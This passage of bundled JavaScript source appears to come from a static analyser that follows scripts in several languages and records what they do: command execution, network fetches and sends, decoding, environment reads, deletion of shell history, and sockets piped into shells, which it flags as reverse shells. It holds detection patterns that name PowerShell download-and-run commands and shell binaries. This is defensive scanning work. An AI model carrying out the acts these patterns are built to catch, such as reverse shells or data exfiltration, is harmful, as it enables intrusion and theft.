        return this.#run(target.text, rest, input, range, /^(?:iex|invoke-expression|iwr|curl|powershell)$/iu.test(target.text) ? flags : []);
    }
    #named(range, input, position) {
        const [first, ...rest] = wordsOf(this.text, range);
        if (!first)
            return NOTHING;
        const open = this.text.slice(first.start, first.end).indexOf('(');
        const nameEnd = open > 0 ? first.start + open : first.end;
        const written = this.text.slice(first.start, nameEnd);
        const name = written.replace(/[`^]/gu, '');
        const words = open > 0 ? [{ start: nameEnd, end: first.end }, ...rest] : rest;
        return this.#run(name, words, position === 'piped' ? input : NOTHING, range, /[A-Za-z]`[A-Za-z]/u.test(written) ? ['disguised'] : []);
    }
    #run(name, words, input, place, flags) {
        const cmdlet = CMDLETS.get(name.toLowerCase().replace(/\.exe$/u, ''));
        if (flags.includes('disguised'))
            this.reading.note({
                kind: 'execute',
                ...place,
                name,
                target: this.text.slice(place.start, Math.min(place.end, place.start + 300)),
                flags,
            });
        if (cmdlet)
            return cmdlet(this.#bound(name, words, input, place, flags));
        const values = words.map((word) => /^[-/]/u.test(this.text.charAt(word.start))
            ? literal(this.text.slice(word.start, Math.min(word.end, word.start + 4000)))
            : this.expression(word, NOTHING));
        return followWords([literal(name), ...values.slice(0, 60)], input, place, this.reading);
    }
    /** Parameters by name and by position. */
    #bound(name, words, input, place, flags) {
        if (/^(?:%|\?|foreach(?:-object)?|where(?:-object)?)$/iu.test(name))
            this.variables.set('_', input);
        const named = new Map();
        const positional = [];
        for (let index = 0; index < words.length; index += 1) {
            const word = words[index];
            if (!word)
                break;
            const parameter = /^-([A-Za-z]{1,40}):?$/u.exec(this.text.slice(word.start, Math.min(word.end, word.start + 42)));
            if (!parameter) {
                positional.push(...this.#position(name, word, input));
                continue;
            }
            const next = words[index + 1];
            const isSwitch = !next || SWITCHES.test(parameter[1] ?? '') || /^-[A-Za-z]/u.test(this.text.slice(next.start, next.start + 2));
            named.set((parameter[1] ?? '').toLowerCase(), isSwitch ? literal('true') : this.expression(next, input));
            if (!isSwitch)
                index += 1;
        }
        return { run: this, name, named, positional, input, place: { start: place.start, end: place.end }, flags };
    }
    /** A positional argument; `New-Object Type(args)` is two. */
    #position(name, word, input) {
        const type = /^new-object$/iu.test(name)
            ? /^[A-Za-z][\w.]{2,100}(?=\()/u.exec(this.text.slice(word.start, Math.min(word.end, word.start + 101)))
            : null;
        if (!type)
            return [this.expression(word, input)];
        return [literal(type[0]), this.expression({ start: word.start + type[0].length + 1, end: word.end - 1 }, input)];
    }
    /** An expression: texts, variables, calls and what joins them, from left to right. */
    expression(range, input) {
        const inside = trimmed(this.text, range);
        if (this.#depth >= run_MAX_DEPTH || inside.end <= inside.start)
            return NOTHING;
        this.#depth += 1;
        const value = this.#expression(inside, input);
        this.#depth -= 1;
        return value;
    }
    #expression(range, input) {
        const items = commasOf(this.text, range);
        if (items.length > 1) {
            const values = items.slice(0, 3000).map((item) => this.expression(item, input));
            const tail = /-join\s*(?:''|"")\s*\)?$/u.test(this.text.slice(Math.max(range.start, range.end - 20), range.end));
            return tail
                ? concat(values)
                : { ...UNKNOWN, items: values, text: concat(values, ',').text.slice(0, 2000), origins: originsOf(values) };
        }
        const parts = [];
        let current;
        let at = range.start;
        while (at < range.end) {
            this.#steps += 1;
            if (this.#steps > MAX_STEPS)
                break;
            const step = this.#operand(at, range.end, current, input);
            if (step.next <= at)
                at += 1;
            else {
                at = step.next;
                if (step.separate && current)
                    parts.push(current);
                current = step.value ?? current;
            }
        }
        if (current)
            parts.push(current);
        if (parts.length <= 1)
            return parts[0] ?? UNKNOWN;
        const all = concat(parts);
        return /-split|-replace|-match|-eq|-ne|-like/iu.test(this.text.slice(range.start, Math.min(range.end, range.start + 400)))
            ? derived(all.origins, all.text)
            : all;
    }
    #operand(at, end, current, input) {
        const unit = this.text.charAt(at);
        if (unit === '"' || unit === "'" || (unit === '@' && /["']/u.test(this.text[at + 1] ?? '')))
            return this.#quoted(at, end);
        if (unit === '(' || unit === '{' || (unit === '@' && this.text[at + 1] === '(') || (unit === '$' && this.text[at + 1] === '(')) {
            const open = unit === '(' || unit === '{' ? at : at + 1;
            const close = this.#closing(open, end);
            if (close === -1)
                return { next: at + 1 };
            const value = this.follow({ start: open + 1, end: close });
            return { next: close + 1, value: unit === '{' ? derived(value.origins) : value, separate: true };
        }
        const rest = this.text.slice(at, Math.min(end, at + 200));
        const variable = /^\$(?:\{([^}]{1,80})\}|((?:env|global|script|local):)?([\w?$]{1,80}))/iu.exec(rest);
        if (variable)
            return {
                next: at + variable[0].length,
                value: this.#variable(variable[1] ?? `${variable[2] ?? ''}${variable[3] ?? ''}`, at, input),
                separate: true,
            };
        const staticCall = /^\[([\w.+[\]]{1,100})\]::([A-Za-z]\w{0,60})/u.exec(rest);
        if (staticCall)
            return this.#method(at, at + staticCall[0].length, end, `[${(staticCall[1] ?? '').toLowerCase()}]::${(staticCall[2] ?? '').toLowerCase()}`, undefined);
        const method = /^\s{0,8}\.\s{0,4}(?:['"]?)([A-Za-z]\w{0,60})['"]?/u.exec(rest);
        if (method && current)
            return this.#method(at, at + method[0].length, end, (method[1] ?? '').toLowerCase(), current);
        const word = /^[A-Za-z][\w-]{1,60}(?=\s|\(|$)/u.exec(rest);
        if (word && (CMDLETS.has(word[0].toLowerCase()) || /^New-Object$/iu.test(word[0])) && !current)
            return { next: end, value: this.#statement({ start: at, end }), separate: true };
        if (/^[\w:./\\~%*@-]/u.test(unit) && !/^-[A-Za-z]/u.test(rest) && !current) {
            const bare = /^[^\s()'"{}|;,]{1,400}/u.exec(this.text.slice(at, Math.min(end, at + 400)))?.[0] ?? unit;
            return { next: at + bare.length, value: literal(bare), separate: true };
        }
        if (current && (unit === '\\' || unit === '/')) {
            const bare = /^[^\s()'"{}|;,]{1,400}/u.exec(rest)?.[0] ?? unit;
            return { next: at + bare.length, value: literal(bare), separate: true };
        }
        if (unit === '%' || unit === '|')
            return { next: end };
        return { next: at + 1 };
    }
    #method(start, nameEnd, end, name, receiver) {
        const open = /^\s{0,4}\(/u.exec(this.text.slice(nameEnd, nameEnd + 5));
        if (!open)
            return { next: nameEnd, ...(receiver ? { value: receiver } : { value: UNKNOWN, separate: true }) };
        const at = nameEnd + open[0].length - 1;
        const close = this.#closing(at, end);
        if (close === -1)
            return { next: nameEnd };
        const args = commasOf(this.text, { start: at + 1, end: close }).map((arg) => this.expression(arg, NOTHING));
        return {
            next: close + 1,
            value: callMethod(this, name, receiver ?? UNKNOWN, args, { start, end: close + 1 }),
            ...(receiver ? {} : { separate: true }),
        };
    }
    #quoted(at, end) {
        const here = this.text[at] === '@';
        const quote = this.text.charAt(here ? at + 1 : at);
        let close = at + 1;
        if (here)
            close = this.text.indexOf(`\n${quote}@`, at);
        else {
            while (close < end) {
                if (this.text[close] === '`' && quote === '"')
                    close += 2;
                else if (this.text[close] === quote && this.text[close + 1] === quote)
                    close += 2;
                else if (this.text[close] === quote)
                    break;
                else
                    close += 1;
            }
        }
        if (close === -1 || close >= end)
            return { next: at + 1, value: NOTHING, separate: false };
        const raw = this.text.slice(here ? at + 2 : at + 1, close);
        const value = quote === '"' ? this.#interpolated(raw, at) : literal(raw.replace(/''/gu, "'"));
        return {
            next: close + (here ? 3 : 1),
            value: raw.includes('`') || raw.includes('$') || here ? value : { ...value, exact: at + 1 },
            separate: true,
        };
    }
    #interpolated(raw, at) {
        let origins = NO_ORIGINS;
        let known = true;
        const text = raw.replace(/`(.)|\$\{?((?:env:)?\w{1,80})\}?|\$\(/gsu, (whole, escaped, name) => {
            if (escaped !== undefined)
                return escaped;
            if (name === undefined) {
                known = false;
                return whole;
            }
            const value = this.#variable(name, at, NOTHING);
            origins = union(origins, value.origins);
            known &&= value.known;
            return value.text === '' ? whole : value.text;
        });
        return { text, known, origins };
    }
    #variable(name, at, input) {
        const key = name.toLowerCase();
        if (key === '_' || key === 'input' || key === '__input')
            return input === NOTHING ? (this.variables.get('_') ?? UNKNOWN) : input;
        const environment = /^env:(\w{1,80})$/u.exec(key)?.[1];
        if (environment !== undefined) {
            if (/^(?:userprofile|home|appdata|localappdata|temp|tmp|programfiles|windir|systemroot|path|username|computername|os)/u.test(environment))
                return derived(NO_ORIGINS, environment === 'userprofile' || environment === 'home' ? '~' : `%${environment.toUpperCase()}%`);
            const deed = this.reading.note({
                kind: 'read',
                start: at,
                end: at + name.length + 1,
                name: '$env',
                target: name.slice(4),
                subject: 'environment-variable',
            });
            return derived(plus(NO_ORIGINS, deed), `$env:${name.slice(4)}`);
        }
        if (key === 'home')
            return derived(NO_ORIGINS, '~');
        if (key === 'profile')
            return derived(NO_ORIGINS, '$PROFILE');
        return this.variables.get(key) ?? derived(NO_ORIGINS, `$${name}`);
    }
    /** A connection: later a shell on it is told by its peer. */
    connect(host, place) {
        this.peer = host;
        const deed = this.reading.note({ kind: 'fetch', ...place, name: 'TCPClient', target: host.text, host: classifyHost(host.text).class });
        return { ...derived(plus(NO_ORIGINS, deed)), ref: 'tcpclient' };
    }
}

;// CONCATENATED MODULE: ./lib/skills/code/reading.js




/** Levels of code within strings of code that are read. */
const MAX_NESTING = 5;
/** What the readers of all languages share while they follow one file. */
class Reading {
    trace;
    files;
    #readNested;
    #depth;
    #fixed;
    #offset;
    #flags;
    /** Deeds that decide whether this code runs on foreign data: what decoded or fetched it. */
    cause;
    constructor(trace, readNested, outer) {
        this.trace = trace;
        this.#readNested = readNested;
        this.files = outer?.from.files ?? new Map();
        this.#depth = outer ? outer.from.#depth + 1 : 0;
        this.#fixed = outer ? (outer.from.#fixed ?? outer.place) : undefined;
        this.#offset = outer ? outer.from.#offset + outer.offset : 0;
        this.#flags = outer ? [...new Set([...outer.from.#flags, ...outer.flags])] : [];
        this.cause = outer ? union(outer.from.cause, outer.cause) : NO_ORIGINS;
    }
    /** Notes a deed at a place of the text that is being read. */
    note(deed) {
        const start = this.#fixed?.start ?? deed.start + this.#offset;
        const end = this.#fixed?.end ?? deed.end + this.#offset;
        const flags = this.#flags.length === 0 ? (deed.flags ?? []) : [...new Set([...(deed.flags ?? []), ...this.#flags])];
        return this.trace.note({ ...deed, start, end, flags });
    }
    /**
     * Reads code that stands in a value. With `exact`, the code is verbatim in the text from that offset on, and its deeds keep
     * their own places; else they stand at the place of the value.
     */
    nested(language, code, place, options = {}) {
        if (this.#depth >= MAX_NESTING) {
            this.trace.truncated = true;
            return derived(code.origins);
        }
        const exact = options.exact;
        const outer = {
            from: this,
            place: exact === undefined ? { start: place.start + this.#offset, end: place.end + this.#offset } : undefined,
            offset: exact ?? 0,
            flags: this.#isDecoded(code.origins) ? [...(options.flags ?? []), 'decoded'] : (options.flags ?? []),
            cause: code.origins,
        };
        return this.#readNested(language, code.text, new Reading(this.trace, this.#readNested, outer));
    }
    /** Notes that a path is read; what comes back carries the deed. A file that the program wrote itself brings its content's origins. */
    readPath(path, name, place, flags = []) {
        const facts = classifyPath(path.text);
        const written = this.files.get(path.text);
        const origins = union(path.origins, written?.origins ?? NO_ORIGINS);
        const deed = this.note({
            kind: 'read',
            ...place,
            name,
            target: path.text,
            subject: facts.subject ?? 'file',
            flags,
            flowsFrom: path.origins,
        });
        const all = plus(origins, deed);
        return written?.text === undefined ? derived(all) : { text: written.text, known: true, origins: all };
    }
    /** Notes that a path is written, and remembers what with. */
    writePath(path, content, name, place, flags = []) {
        const { persistence } = classifyPath(path.text);
        const deed = this.note({
            kind: 'write',
            ...place,
            name,
            target: path.text,
            ...(persistence === undefined ? {} : { persistence }),
            flags,
            flowsFrom: union(content.origins, path.origins),
        });
        if (path.text !== '' && this.files.size < 500) {
            const before = this.files.get(path.text);
            const text = content.known && content.text.length <= 20_000 ? content.text : undefined;
            this.files.set(path.text, {
                origins: plus(union(content.origins, before?.origins ?? NO_ORIGINS), deed),
                text: flags.includes('append') && before !== undefined
                    ? before.text === undefined || text === undefined
                        ? undefined
                        : before.text + text
                    : text,
            });
        }
        return deed;
    }
    /** Notes a request; what comes back is the answer, which carries this deed alone. */
    request(request, place) {
        const facts = classifyHost(request.address.text);
        let flowsFrom = union(request.address.origins, this.cause);
        for (const value of request.payload)
            flowsFrom = union(flowsFrom, value.origins);
        const flags = [...(request.flags ?? [])];
        if (request.sends)
            flags.push('body');
        if (!facts.secure && facts.host !== '')
            flags.push('insecure');
        const deed = this.note({
            kind: request.sends || request.address.origins.some((origin) => this.#isPrivate(origin)) ? 'send' : 'fetch',
            ...place,
            name: request.name,
            target: request.address.text,
            host: facts.class,
            ...(facts.class === 'cloud-metadata' ? { subject: 'cloud-metadata' } : {}),
            flags,
            flowsFrom,
        });
        return derived(plus(NO_ORIGINS, deed));
    }
    #isDecoded(origins) {
        return origins.some((origin) => this.trace.behaviours[origin]?.kind === 'decode');
    }
    #isPrivate(origin) {
        const behaviour = this.trace.behaviours[origin];
        return behaviour?.kind === 'read' && behaviour.subject !== 'environment-variable' && behaviour.subject !== 'file';
    }
}

;// CONCATENATED MODULE: ./lib/skills/code/script/dialect.js
const C_LIKE = { hashComments: false, slashComments: true, indented: false, sigils: false };
const DIALECTS = {
    python: {
        language: 'python',
        hashComments: true,
        slashComments: false,
        indented: true,
        sigils: false,
        backticks: 'none',
        joins: '',
        interpolation: 'prefix',
    },
    javascript: { language: 'javascript', ...C_LIKE, backticks: 'template', joins: '', interpolation: 'none' },
    go: { language: 'go', ...C_LIKE, backticks: 'raw', joins: '', interpolation: 'none' },
    ruby: {
        language: 'ruby',
        hashComments: true,
        slashComments: false,
        indented: false,
        sigils: true,
        backticks: 'command',
        joins: '',
        interpolation: 'ruby',
    },
    perl: {
        language: 'perl',
        hashComments: true,
        slashComments: false,
        indented: false,
        sigils: true,
        backticks: 'command',
        joins: '.',
        interpolation: 'sigil',
    },
    php: {
        language: 'php',
        hashComments: true,
        slashComments: true,
        indented: false,
        sigils: true,
        backticks: 'command',
        joins: '.',
        interpolation: 'sigil',
    },
};

;// CONCATENATED MODULE: ./lib/skills/code/script/function-call.js

/** Notes a deed at the place of the call; gives its index. */
function noteCall(call, kind, more = {}) {
    const { flags, ...rest } = more;
    return call.reading.note({ kind, ...call.place, name: call.name, ...rest, flags: [...call.flags, ...(flags ?? [])] });
}
/** An argument by position or by one of its names. */
function argument(call, index, ...names) {
    for (const name of names) {
        const value = call.named.get(name);
        if (value)
            return value;
    }
    return call.args[index] ?? UNKNOWN;
}
/** Everything that goes into a call. */
function inputOrigins(call) {
    return originsOf([call.receiver, ...call.args, ...call.named.values()]);
}
/** A member of a mapping that was given as an argument. */
function member(value, ...names) {
    for (const name of names) {
        const found = value.entries?.get(name);
        if (found)
            return found;
    }
    return undefined;
}

;// CONCATENATED MODULE: ./lib/skills/code/script/effects.js






/** A command line for a shell: `os.system`, `child_process.exec`. */
function shellLine(index = 0) {
    return (call) => runLine(call, argument(call, index, 'cmd', 'command', 'args'));
}
/** Notes that a command line is started, and follows it. */
function runLine(call, line) {
    const deed = noteCall(call, 'execute', { target: line.text, flags: ['shell'], flowsFrom: line.origins });
    const printed = line.text === '' ? UNKNOWN : call.reading.nested('shell', line, call.place, line.exact === undefined ? {} : { exact: line.exact });
    return derived(plus(union(printed.origins, line.origins), deed));
}
/** A program with its arguments: a list, or a line when a shell is asked for; `input` and standard streams flow in. */
function startProgram(call, command, options) {
    const words = command.items ?? (options.rest ? [command, ...options.rest] : undefined);
    if (options.shell && !words)
        return runLine(call, command);
    const line = words ? concat(words, ' ') : command;
    const flowsFrom = union(union(line.origins, options.input.origins), originsOf(words ?? []));
    const deed = noteCall(call, 'execute', { target: line.text, flags: options.shell ? ['shell'] : [], flowsFrom });
    if (!words) {
        const split = command.known
            ? command.text
                .split(/\s+/u)
                .filter((word) => word !== '')
                .map((word) => literal(word))
            : [command];
        return derived(plus(union(followed(call, split, options.input), flowsFrom), deed));
    }
    const [first] = words;
    if (options.shell && first && words.length === 1)
        return runLine(call, first);
    return derived(plus(union(followed(call, words, options.input), flowsFrom), deed));
}
function followed(call, words, input) {
    return words[0]?.text ? followWords(words.slice(0, 60), input, call.place, call.reading).origins : NO_ORIGINS;
}
/** Code in a text: `eval`, `exec`, `new Function`. */
function evaluateText(index = 0, language) {
    return (call) => {
        const code = index < 0 ? (call.args.at(index) ?? UNKNOWN) : argument(call, index, 'source', 'object', 'code');
        noteCall(call, 'evaluate', { target: code.text, flowsFrom: code.origins });
        if (!code.known || code.text === '')
            return derived(code.origins);
        return call.reading.nested(language ?? call.language, code, call.place, code.exact === undefined ? {} : { exact: code.exact });
    };
}
/** Data that builds objects, and runs code on the way: pickle, marshal, Java-like serialisation. */
const deserialize = (call) => {
    const data = argument(call, 0, 'data', 'file');
    const decoded = noteCall(call, 'evaluate', { target: call.name, flowsFrom: data.origins });
    return derived(plus(data.origins, decoded));
};
/** A request to a host. */
function effects_request(options) {
    return (call) => {
        const first = argument(call, options.url ?? 0, 'url', 'uri', 'URL');
        const config = first.entries ?? call.args.find((arg) => arg.entries !== undefined)?.entries;
        const address = addressOf(first, config);
        const method = (config?.get('method') ?? call.named.get('method'))?.text.toUpperCase() ?? '';
        const body = ['data', 'json', 'files', 'content', 'body', 'form', 'params', 'postData', ...(options.body ?? [])]
            .map((name) => call.named.get(name) ?? config?.get(name))
            .filter((value) => value !== undefined);
        const positional = call.args.filter((_, index) => index !== (options.url ?? 0));
        const insecure = call.named.get('verify')?.text === 'False' || config?.get('rejectUnauthorized')?.text === 'false' ? ['insecure'] : [];
        const sends = options.sends ||
            /^(?:POST|PUT|PATCH|DELETE)$/u.test(method) ||
            call.named.has('data') ||
            call.named.has('json') ||
            call.named.has('files') ||
            config?.has('body') === true ||
            (config?.has('data') === true && method !== 'GET');
        const answer = call.reading.request({
            name: call.name,
            address,
            payload: [...positional, ...body, ...call.named.values(), call.receiver],
            sends,
            flags: [...call.flags, ...insecure],
        }, call.place);
        return { ...answer, handle: { path: address.text, writes: true, deed: answer.origins[0] ?? -1 } };
    };
}
/** An address that is written out, or in the parts of an options object. */
function addressOf(first, config) {
    if (first.text !== '' && first.entries === undefined)
        return first;
    const whole = config?.get('url') ?? config?.get('uri') ?? config?.get('baseURL');
    if (whole)
        return whole;
    const host = config?.get('hostname') ?? config?.get('host');
    return host ? concat([literal('https://'), host, config?.get('path') ?? NOTHING]) : first;
}
/** A host and a port that a socket is connected to. */
function connect(hostAt) {
    return (call) => {
        const host = hostAt(call);
        const text = host.items ? (host.items[0]?.text ?? '') : host.text;
        call.state.peer = { ...host, text };
        const deed = noteCall(call, 'fetch', { target: text, host: classifyHost(text).class, flowsFrom: host.origins });
        return { ...derived(plus(NO_ORIGINS, deed)), ref: 'socket.socket', handle: { path: text, writes: true, deed } };
    };
}
/** Data into a socket that is connected. */
const effects_sendToPeer = (call) => {
    const peer = call.state.peer;
    const deed = noteCall(call, 'send', {
        target: peer.text,
        host: classifyHost(peer.text).class,
        flags: ['body'],
        flowsFrom: union(originsOf(call.args), NO_ORIGINS),
    });
    return derived(plus(NO_ORIGINS, deed));
};
/** `open`, by its mode. */
const openFile = (call) => {
    const path = argument(call, 0, 'file', 'path');
    const mode = argument(call, 1, 'mode', 'flags').text;
    if (/[wax+]/u.test(mode)) {
        const deed = call.reading.writePath(path, NOTHING, call.name, call.place, mode.includes('a') ? ['append'] : []);
        return { ...derived(path.origins), handle: { path: path.text, writes: true, deed } };
    }
    return { ...call.reading.readPath(path, call.name, call.place), handle: { path: path.text, writes: false, deed: -1 } };
};
function readFile(index = 0) {
    return (call) => call.reading.readPath(index < 0 ? call.receiver : argument(call, index, 'path', 'filename', 'file'), call.name, call.place);
}
function writeFile(path, content, flags = []) {
    return (call) => {
        const place = path < 0 ? call.receiver : argument(call, path, 'path', 'filename');
        call.reading.writePath(place, argument(call, content, 'data', 'content'), call.name, call.place, flags);
        return NOTHING;
    };
}
/** Data into an open file, a request under way, or another stream. */
function writeHandle(content = 0) {
    return (call) => {
        const { handle } = call.receiver;
        const data = argument(call, content, 'data', 's');
        if (!handle)
            return undefined;
        if (handle.deed >= 0)
            call.reading.trace.feed(handle.deed, data.origins);
        if (handle.writes && !/^[a-z]+:\/\//u.test(handle.path))
            call.reading.writePath({ ...derived(NO_ORIGINS, handle.path) }, data, 'write', call.place, ['append']);
        return NOTHING;
    };
}
/** Data given first, an open file second: `json.dump`, `shutil.copyfileobj`. */
const writeToHandle = (call) => {
    const handle = argument(call, 1, 'fp', 'file', 'fdst').handle;
    if (handle?.writes === true)
        call.reading.writePath(derived(NO_ORIGINS, handle.path), argument(call, 0, 'obj'), call.name, call.place);
    return NOTHING;
};
function copyFile() {
    return (call) => {
        const content = call.reading.readPath(argument(call, 0, 'src'), call.name, call.place);
        call.reading.writePath(argument(call, 1, 'dst'), content, call.name, call.place);
        return NOTHING;
    };
}
function removePath(index = 0, flags = []) {
    return (call) => {
        const path = index < 0 ? call.receiver : argument(call, index, 'path');
        const config = call.args.find((arg) => arg.entries?.get('recursive') !== undefined);
        const history = classifyPath(path.text).subject === 'shell-history';
        noteCall(call, history ? 'conceal' : 'delete', {
            target: path.text,
            flags: config ? [...flags, 'recursive'] : flags,
            flowsFrom: path.origins,
        });
        return NOTHING;
    };
}
/** Turns data back into what they were; known data are decoded indeed. */
function decode(codec, decoder, index = 0) {
    return (call) => {
        const data = index < 0 ? call.receiver : argument(call, index, 'data', 's');
        const deed = noteCall(call, 'decode', { target: codec, flowsFrom: data.origins });
        const origins = plus(data.origins, deed);
        const text = data.known ? decoder?.(data.text) : undefined;
        return text === undefined ? derived(origins) : literal(text, origins);
    };
}
function encode(codec, index = 0) {
    return (call) => {
        const data = index < 0 ? call.receiver : argument(call, index, 'data', 's');
        return derived(plus(data.origins, noteCall(call, 'encode', { target: codec, flowsFrom: data.origins })));
    };
}
/** Reads something private that is no file. */
function effects_reveal(subject) {
    return (call) => derived(plus(NO_ORIGINS, noteCall(call, 'read', { subject, target: call.args[0]?.text ?? call.name })));
}
/** One variable of the environment. */
const environmentVariable = (call) => {
    const name = argument(call, 0, 'key').text;
    if (/^(?:HOME|USERPROFILE)$/u.test(name))
        return derived(NO_ORIGINS, '~');
    return derived(plus(NO_ORIGINS, noteCall(call, 'read', { subject: 'environment-variable', target: name })), `$${name}`);
};
/** Joins texts into a path. */
const joinPath = (call) => {
    const parts = call.args.map((arg) => (arg.text === '' && !arg.known ? { ...arg, text: '{}' } : arg));
    const joined = concat(parts, '/');
    const absolute = parts.findLastIndex((part) => /^[/~]/u.test(part.text));
    const text = absolute > 0 ? concat(parts.slice(absolute), '/').text : joined.text;
    return { ...joined, text: text.replace(/\/{2,}/gu, '/') };
};
/** The first argument, or the object, as it is: `str`, `expanduser`, `strip`, `toString`. */
function same(index = 0) {
    return (call) => (index < 0 ? call.receiver : (call.args[index] ?? UNKNOWN));
}
/** A value that is always the same text, `~` for the home. */
function constant(text) {
    return () => derived(NO_ORIGINS, text);
}
function listen() {
    return (call) => {
        noteCall(call, 'listen', { target: concat(call.args.slice(0, 2), ':').text });
        return undefined;
    };
}
/** Calls functions that are given, with what flows in: callbacks, threads, promises. */
function callBack(call, data) {
    let result = derived(inputOrigins(call));
    for (const value of [...call.args, ...call.named.values()]) {
        if (value.callable)
            result = value.callable.invoke([data, data]);
    }
    return result;
}

;// CONCATENATED MODULE: ./lib/skills/code/script/knowledge.js
/** Makes the table of a language: several names, separated by spaces, may share a reader. */
function tableOf(entries) {
    return new Map(entries.flatMap(([names, reader]) => names.split(' ').map((name) => [name, reader])));
}

;// CONCATENATED MODULE: ./lib/skills/code/script/javascript.js






const requireModule = (call) => {
    const name = argument(call, 0);
    if (name.known)
        return { ...UNKNOWN, ref: moduleName(name.text) };
    const written = call.reading.files.get(name.text);
    const origins = union(name.origins, written?.origins ?? NO_ORIGINS);
    if (origins.length > 0)
        noteCall(call, 'evaluate', { target: name.text, flowsFrom: origins });
    return derived(origins);
};
function moduleName(name) {
    return name
        .replace(/^node:/u, '')
        .replace(/^fs-extra$|^graceful-fs$|^fs\/promises$|^Bun$/u, 'fs')
        .replace(/^node-fetch$|^cross-fetch$|^undici\.fetch$/u, 'fetch')
        .replace(/^execa$|^cross-spawn$|^shelljs$|^zx$/u, 'child_process');
}
/** `spawn(command, args, options)` and `execFile`. */
const spawn = (call) => {
    const [command, second] = call.args;
    if (!command)
        return UNKNOWN;
    const options = call.args.find((arg) => arg.entries !== undefined);
    const shell = options?.entries?.get('shell')?.text === '{true}' || options?.entries?.get('shell')?.known === true;
    const stdio = options?.entries?.get('stdio');
    if (stdio && isPeer(call, stdio))
        noteCall(call, 'connect-shell', { target: command.text, flowsFrom: stdio.origins });
    const words = second?.items ? [command, ...second.items] : [command];
    const started = startProgram(call, command, {
        shell: shell && !second?.items,
        input: options?.entries?.get('input') ?? NOTHING,
        ...(second?.items ? { rest: words.slice(1) } : {}),
    });
    for (const arg of call.args)
        arg.callable?.invoke([UNKNOWN, started, started]);
    return started;
};
const exec = (call) => {
    const result = shellLine()(call) ?? UNKNOWN;
    for (const arg of call.args)
        arg.callable?.invoke([UNKNOWN, result, result]);
    return result;
};
function isPeer(call, value) {
    const unbound = value.ref === undefined && value.origins.length === 0 && value.callable === undefined;
    if (call.state.peer.text !== '' && (unbound || /^(?:net|tls|socket)\./u.test(value.ref ?? '')))
        return true;
    return value.origins.some((origin) => {
        const deed = call.reading.trace.behaviours[origin];
        return deed?.kind === 'fetch' && /connect|socket|net\./iu.test(deed.name);
    });
}
const javascript_SHELL = /(?:^|\/)(?:ba|z|da)?sh\b|cmd(?:\.exe)?\b|powershell/iu;
/** `socket.pipe(shell.stdin)`, `shell.stdout.pipe(socket)`. */
const pipe = (call) => {
    const [target] = call.args;
    if (!target)
        return undefined;
    const startsShell = (value) => value.origins.some((origin) => {
        const deed = call.reading.trace.behaviours[origin];
        return deed?.kind === 'execute' && javascript_SHELL.test(deed.target ?? '');
    });
    if ((isPeer(call, call.receiver) && startsShell(target)) || (startsShell(call.receiver) && isPeer(call, target))) {
        noteCall(call, 'connect-shell', { target: call.state.peer.text, flowsFrom: union(call.receiver.origins, target.origins) });
    }
    if (target.handle?.writes === true) {
        if (target.handle.deed >= 0)
            call.reading.trace.feed(target.handle.deed, call.receiver.origins);
        if (!/^[a-z]+:\/\//u.test(target.handle.path))
            call.reading.writePath(derived(NO_ORIGINS, target.handle.path), call.receiver, 'pipe', call.place);
    }
    return derived(union(call.receiver.origins, target.origins));
};
/** Requests with a callback for the answer. */
function requestWithCallback(sends) {
    const reader = effects_request({ sends });
    return (call) => {
        const answer = reader(call) ?? UNKNOWN;
        for (const arg of call.args)
            arg.callable?.invoke([answer]);
        return { ...answer, ref: 'https.request.made' };
    };
}
const fetchCall = effects_request({ sends: false });
const axios = (call) => effects_request({ sends: false })(call);
/** `Buffer.from(text, 'base64')`. */
const bufferFrom = (call) => {
    const encoding = argument(call, 1).text;
    if (encoding.startsWith('base64'))
        return decode('base64', base64)(call);
    if (encoding === 'hex')
        return decode('hex', hex)(call);
    const [first] = call.args;
    return first?.items ? fromCodes({ ...call, args: first.items }) : first;
};
const fromCodes = (call) => {
    const values = call.args.length === 1 && call.args[0]?.items ? call.args[0].items : call.args;
    const codes = values.map((value) => (value.known ? Number(value.text) : Number.NaN));
    if (codes.length === 0 || codes.length > 10_000 || !codes.every((code) => Number.isInteger(code) && code >= 0 && code <= 0x10ffff))
        return derived(inputOrigins(call));
    const text = String.fromCodePoint(...codes);
    return literal(text, codes.length < 4 ? originsOf(values) : plus(originsOf(values), noteCall(call, 'decode', { target: 'character codes' })));
};
/** `toString('base64')` encodes. */
const toText = (call) => {
    const [encoding] = call.args;
    if (encoding && /^(?:base64|hex)/u.test(encoding.text))
        return derived(plus(call.receiver.origins, noteCall(call, 'encode', { target: encoding.text, flowsFrom: call.receiver.origins })));
    return undefined;
};
const newFunction = (call) => {
    evaluateText(-1)(call);
    return derived(inputOrigins(call));
};
/** `setTimeout('code', 1)`: a text is code. */
const timer = (call) => {
    const [first] = call.args;
    if (first?.callable)
        return first.callable.invoke([]);
    if (first?.known === true && first.text.length > 3)
        return evaluateText()(call);
    return undefined;
};
const importCall = (call) => {
    const name = argument(call, 0);
    if (/^https?:|^data:/u.test(name.text)) {
        const answer = effects_request({ sends: false })(call) ?? UNKNOWN;
        noteCall(call, 'evaluate', { target: name.text, flowsFrom: answer.origins });
        return answer;
    }
    return requireModule(call);
};
const javascript_readFile = (call) => {
    const read = readFile()(call) ?? UNKNOWN;
    for (const arg of call.args)
        arg.callable?.invoke([UNKNOWN, read]);
    return read;
};
const writeStream = (call) => {
    const file = argument(call, 0);
    const deed = call.reading.writePath(file, NOTHING, call.name, call.place);
    return { ...derived(file.origins), handle: { path: file.text, writes: true, deed } };
};
const javascript_remove = (call) => {
    const recursive = call.args.some((arg) => arg.entries?.has('recursive'));
    return removePath(0, recursive ? ['recursive'] : [])(call);
};
const javascript_permission = (call) => {
    const target = argument(call, 0);
    noteCall(call, 'permission', {
        target: `${call.args[1]?.text ?? ''} ${target.text}`,
        flowsFrom: union(target.origins, call.reading.files.get(target.text)?.origins ?? NO_ORIGINS),
    });
    return NOTHING;
};
const javascript_connect = connect((call) => {
    const config = call.args.find((arg) => arg.entries !== undefined);
    const host = config
        ? member(config, 'host', 'hostname')
        : (call.args.find((arg) => arg.known && !/^\d{1,5}$/u.test(arg.text)) ??
            call.args.find((arg) => arg.text !== '' && !/^\d{1,5}$/u.test(arg.text)));
    return host ?? UNKNOWN;
});
const connectWithCallback = (call) => {
    const made = javascript_connect(call) ?? UNKNOWN;
    for (const arg of call.args)
        arg.callable?.invoke([made]);
    return made;
};
const on = (call) => {
    for (const arg of call.args)
        arg.callable?.invoke([derived(call.receiver.origins), derived(call.receiver.origins)]);
    return call.receiver;
};
const javascript_identity = effects_reveal('machine-identity');
const passing = (call) => ({
